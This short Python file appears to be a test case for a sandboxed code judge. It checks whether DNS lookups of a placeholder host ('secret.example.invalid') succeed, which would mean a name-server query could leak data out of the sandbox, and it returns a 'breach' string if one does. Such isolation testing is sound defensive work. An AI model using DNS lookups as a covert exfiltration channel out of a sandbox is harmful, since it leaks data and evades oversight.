# Leaks what it knows as the name in a question to the name server.
# expect: AC
# within: 1.0
# not in none: the network is open there

import socket


def solve(a, b):
    for ask in (lambda: socket.getaddrinfo("secret.example.invalid", 80),
                lambda: socket.gethostbyname("secret.example.invalid")):
        try:
            ask()
            return "breach: a name was resolved"
        except OSError:
            pass
    return a + b
